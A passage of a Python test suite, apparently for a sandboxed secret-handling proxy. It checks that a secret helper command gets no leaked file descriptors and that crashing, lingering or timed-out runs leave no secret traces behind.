            assert result.rc == REFUSED, (origin, result)
    assert cell.run(["/bin/true"], given(cell, secret)).rc == 0, "control"


@lab_cells(LAB_ONE_EACH)
def test_C11_a_command_source_has_no_more_than_it_needs(cell, lab):
    """A helper that hangs is ended; it gets no descriptor of the proxy."""
    folder = PLACE.folder("helper", cell.user)
    script = folder / "helper"
    script.write_text("#!/bin/sh\nls -l /proc/self/fd >&2\nls /proc/self/fd | tr '\\n' ','; echo helper-value\n")
    script.chmod(0o755)
    watch = lab.watch()
    answer = cell.script(GET + 'out["x"] = https("api.lab.test", "/fds")', ["--secret", f"LAB_TOKEN=cmd:{script}@{ORIGIN}"])
    assert "HTTP/1.1 200" in answer["x"], answer["x"]
    sent = next(r for r in watch.requests() if r.target == "/fds").get("authorization")[0]
    numbers = {int(n) for n in sent.removeprefix("Bearer ").split("helper")[0].strip(",").split(",")}
    assert numbers <= {0, 1, 2, 3, 4, 5} and len(numbers) <= 4, sent


# ---- L-01 of runs with secrets ----

@lab_cells()
def test_nothing_is_left_of_runs_with_secrets(cell, lab, diff):
    secret = new_secret()
    ways = [["/bin/true"], ["/bin/false"], ["/no/such/program"], [PLACE.attack, "die", "signal", "11"], [PLACE.attack, "linger"]]
    for command in ways:
        cell.run(command, given(cell, secret))
    cell.run([PLACE.attack, "stubborn", "600"], [*given(cell, secret), "--timeout", "100ms"])
    cell.run(["/bin/true"], ["--secret", f"T=file:/missing@{ORIGIN}"])
